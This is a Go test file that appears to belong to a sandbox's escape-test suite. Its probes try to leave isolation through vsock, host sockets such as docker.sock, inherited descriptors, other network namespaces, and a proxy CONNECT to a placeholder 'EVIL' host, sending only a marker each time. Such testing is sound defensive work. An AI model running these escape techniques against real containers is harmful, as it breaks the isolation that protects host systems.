package main

import (
	"bufio"
	"fmt"
	"net"
	"net/url"
	"os"
	"path/filepath"
	"runtime"
	"slices"
	"strconv"
	"strings"
	"time"

	"golang.org/x/sys/unix"

	"github.com/carrel-dev/carrel/test/escape/plan"
)

// inherited are the descriptors that the program inherited.
var inherited []int

// openDescriptors lists the open descriptors except the standard three and those of the Go runtime.
func openDescriptors() []int {
	d, err := os.Open("/proc/self/fd")
	if err != nil {
		return nil
	}
	own := int(d.Fd())
	names, _ := d.Readdirnames(-1)
	_ = d.Close()
	var out []int
	for _, name := range names {
		fd, err := strconv.Atoi(name)
		to, _ := os.Readlink("/proc/self/fd/" + name)
		if err == nil && fd > 2 && fd != own && !strings.HasPrefix(to, "anon_inode:[event") {
			out = append(out, fd)
		}
	}
	return out
}

// What is no network at all.
var _ = add(map[string]func(*attempt) plan.Outcome{
	"vsock": func(a *attempt) plan.Outcome {
		port := max(a.plan.VSock, 1024)
		return each([]uint32{unix.VMADDR_CID_LOCAL, unix.VMADDR_CID_HOST, unix.VMADDR_CID_HYPERVISOR, 3}, func(cid uint32) plan.Outcome {
			fd, err := unix.Socket(unix.AF_VSOCK, unix.SOCK_STREAM|unix.SOCK_CLOEXEC, 0)
			if err != nil {
				return plan.Outcome{Saw: plan.Unable, Detail: err.Error()}
			}
			defer unix.Close(fd)
			_ = unix.SetsockoptTimeval(fd, unix.SOL_SOCKET, unix.SO_SNDTIMEO, &unix.Timeval{Sec: 2})
			if err := unix.Connect(fd, &unix.SockaddrVM{CID: cid, Port: port}); err != nil {
				return plan.Outcome{Saw: plan.Refused, Detail: err.Error()}
			}
			_, err = unix.Write(fd, []byte(a.mark))
			return saw(err)
		})
	},
	"abstract-socket": func(a *attempt) plan.Outcome { return unixTo(a, "@"+a.plan.Abstract) },
	"path-socket": func(a *attempt) plan.Outcome {
		paths := []string{a.plan.Path, "/proc/1/root" + a.plan.Path, "/proc/" + fmt.Sprint(os.Getppid()) + "/root" + a.plan.Path}
		return each(paths, func(p string) plan.Outcome { return unixTo(a, p) })
	},
	"known-sockets": func(a *attempt) plan.Outcome {
		paths := []string{"/run/docker.sock", "/var/run/docker.sock", "/run/containerd/containerd.sock", "/run/crio/crio.sock", "/run/podman/podman.sock",
			"/run/systemd/private", "/run/systemd/notify", "/run/systemd/journal/socket", "/run/dbus/system_bus_socket", "/dev/log",
			"/run/nscd/socket", "/tmp/.X11-unix/X0", "@/tmp/.X11-unix/X0", "/run/snapd.socket", "/run/acpid.socket", "/run/gpm.socket"}
		found, _ := filepath.Glob("/run/*/*.sock")
		return each(append(append(paths, found...), listedSockets()...), func(p string) plan.Outcome {
			o := unixTo(a, p)
			if o.Saw == plan.Answered || o.Saw == plan.Silent {
				o.Detail = p
			}
			return o
		})
	},
	"inherited-descriptors": func(a *attempt) plan.Outcome {
		out := plan.Outcome{Saw: plan.Refused}
		for _, fd := range inherited {
			to, _ := os.Readlink("/proc/self/fd/" + strconv.Itoa(fd))
			out.Detail += fmt.Sprint(fd, " ", to, " ")
			if strings.HasPrefix(to, "socket:") || strings.HasPrefix(to, "/dev/net") {
				out.Saw = plan.Answered
				_, _ = unix.Write(fd, []byte(a.mark))
			}
		}
		return out
	},
	"other-namespaces": func(a *attempt) plan.Outcome {
		done := make(chan plan.Outcome)
		go func() { runtime.LockOSThread(); done <- joinOthers(a) }() // the thread is never used again
		return <-done
	},
})

func unixTo(a *attempt, name string) plan.Outcome {
	if name == "" || name == "@" {
		return plan.Outcome{Saw: plan.Unable}
	}
	for _, network := range []string{"unix", "unixgram", "unixpacket"} {
		c, err := net.DialTimeout(network, name, 2*time.Second)
		if err != nil {
			continue
		}
		defer c.Close()
		_, err = c.Write([]byte(a.mark))
		if err != nil {
			return saw(err)
		}
		return plan.Outcome{Saw: plan.Silent}
	}
	return plan.Outcome{Saw: plan.Refused}
}

// listedSockets returns the sockets in the kernel's lists.
func listedSockets() []string {
	f, err := os.Open("/proc/net/unix")
	if err != nil {
		return nil
	}
	defer f.Close()
	var out []string
	for s := bufio.NewScanner(f); s.Scan(); {
		if fields := strings.Fields(s.Text()); len(fields) == 8 && !slices.Contains(out, fields[7]) {
			out = append(out, fields[7])
		}
	}
	return out
}

// joinOthers enters every network namespace that it can see, and connects from there.
func joinOthers(a *attempt) plan.Outcome {
	own, _ := os.Readlink("/proc/thread-self/ns/net")
	found, _ := filepath.Glob("/proc/[0-9]*/ns/net")
	named, _ := filepath.Glob("/run/netns/*")
	out := plan.Outcome{Saw: plan.Refused}
	for _, ns := range append(found, named...) {
		if to, err := os.Readlink(ns); err == nil && to == own {
			continue
		}
		fd, err := unix.Open(ns, unix.O_RDONLY|unix.O_CLOEXEC, 0)
		if err != nil {
			continue
		}
		if user, err := unix.Open(filepath.Dir(ns)+"/user", unix.O_RDONLY|unix.O_CLOEXEC, 0); err == nil {
			_ = unix.Setns(user, unix.CLONE_NEWUSER)
			_ = unix.Close(user)
		}
		err = unix.Setns(fd, unix.CLONE_NEWNET)
		_ = unix.Close(fd)
		if err != nil {
			continue
		}
		out = plan.Outcome{Saw: plan.Answered, Detail: "joined " + ns}
		for _, to := range a.plan.Host {
			// By hand, because the runtime might dial on another thread.
			ap, err := net.ResolveTCPAddr("tcp", to)
			if err != nil || ap.IP.To4() == nil {
				continue
			}
			s, err := unix.Socket(unix.AF_INET, unix.SOCK_STREAM|unix.SOCK_CLOEXEC, 0)
			if err != nil {
				continue
			}
			if unix.Connect(s, sockaddr(ap.IP.String(), ap.Port)) == nil {
				_, _ = unix.Write(s, []byte(a.mark))
			}
			_ = unix.Close(s)
		}
	}
	return out
}

// useProxies sends the marker through each proxy that the environment names.
func useProxies(a *attempt) plan.Outcome {
	out := plan.Outcome{Saw: plan.Refused}
	for _, kv := range os.Environ() {
		name, value, _ := strings.Cut(kv, "=")
		if !strings.HasSuffix(strings.ToLower(name), "_proxy") || strings.EqualFold(name, "no_proxy") {
			continue
		}
		u, err := url.Parse(value)
		if err != nil || u.Host == "" {
			continue
		}
		c, err := net.DialTimeout("tcp", u.Host, dialTime)
		if err != nil {
			continue
		}
		out = say(c, a.http("CONNECT EVIL:443 HTTP/1.1\nHost: EVIL:443\n\nMARK"))
		out.Detail = kv
		_ = c.Close()
	}
	return out
}
